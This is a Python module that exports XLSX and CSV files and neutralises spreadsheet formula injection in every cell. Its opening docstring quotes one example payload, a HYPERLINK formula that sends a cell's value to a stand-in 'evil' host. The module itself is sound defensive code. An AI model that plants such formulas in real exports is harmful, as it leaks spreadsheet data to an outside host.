"""Writing the spreadsheets the platform hands out (XLSX and CSV), safely.

Every exported cell goes through :func:`safe_cell`: text that a spreadsheet would run as a
formula — a resident named ``=HYPERLINK("http://evil/?"&A1,"click")`` — is neutralised by
OWASP's rule (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab or carriage return),
so it shows as the text it is. Numbers stay numbers. Every writer in the project uses
:func:`xlsx_bytes` or :func:`csv_bytes`, so no export can forget it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot carry; openpyxl refuses them (text from a CSV may hold them).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value: object) -> object:
    """``value`` as a cell that no spreadsheet will evaluate: text starting with a formula
    character gets a leading apostrophe; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unneutralised(value: object) -> object:
    """The reverse of :func:`safe_cell` for a sheet read back: ``'+86 137…`` is
    ``+86 137…`` again (an apostrophe before any other character stays)."""
    if isinstance(value, str) and value.startswith("'") and value[1:2] in FORMULA_TRIGGERS:
        return value[1:]
    return value


@dataclass
class Sheet:
    """One worksheet to write: a bold header row, then ``rows``.

    ``text_columns`` (letters) are formatted as text, so that Excel keeps what people type
    there (an ID number) instead of making it a number.
    """

    title: str
    header: Sequence[object]
    rows: Iterable[Sequence[object]] = ()
    header_fill: str | None = None
    text_columns: Sequence[str] = ()
    widths: Mapping[str, float] = field(default_factory=dict)


def _xlsx_cell(value: object) -> object:
    value = safe_cell(value)
    if isinstance(value, str):
        return _ILLEGAL_XML.sub("", value)
    return value


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook of ``sheets``, every cell passed through :func:`safe_cell`.

    Written with XlsxWriter (openpyxl, which reads the uploads, writes a 20,000-row
    report three times slower), with every automatic conversion off: a string stays a
    string, never a formula, a number or a link.
    """
    import xlsxwriter  # imported here: most requests never write a workbook

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(
        buffer,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )
    for spec in sheets:
        _write_sheet(book, spec)
    book.close()
    return buffer.getvalue()


def _write_sheet(book: Any, spec: Sheet) -> None:
    from xlsxwriter.utility import xl_cell_to_rowcol

    def index(letter: str) -> int:
        return int(xl_cell_to_rowcol(f"{letter}1")[1])

    sheet = book.add_worksheet(spec.title[:31])  # Excel's limit on sheet names
    text = book.add_format({"num_format": "@"})
    text_at = {index(letter) for letter in spec.text_columns}
    for letter in {*spec.text_columns, *spec.widths}:
        # A text column keeps what people type into it later (an ID number) as text.
        column = index(letter)
        sheet.set_column(
            column, column, spec.widths.get(letter), text if column in text_at else None
        )
    row = 0
    if spec.header:
        style = {"bold": True} | ({"bg_color": f"#{spec.header_fill}"} if spec.header_fill else {})
        sheet.write_row(row, 0, [_xlsx_cell(v) for v in spec.header], book.add_format(style))
        row += 1
    for values in spec.rows:
        cells = [_xlsx_cell(v) for v in values]
        if text_at:
            for column, value in enumerate(cells):
                if value is not None:
                    sheet.write(row, column, value, text if column in text_at else None)
        else:
            sheet.write_row(row, 0, cells)
        row += 1


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """CSV in UTF-8 with a byte-order mark (so that Excel in China reads it as UTF-8),
    every cell passed through :func:`safe_cell`."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(v) for v in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8")
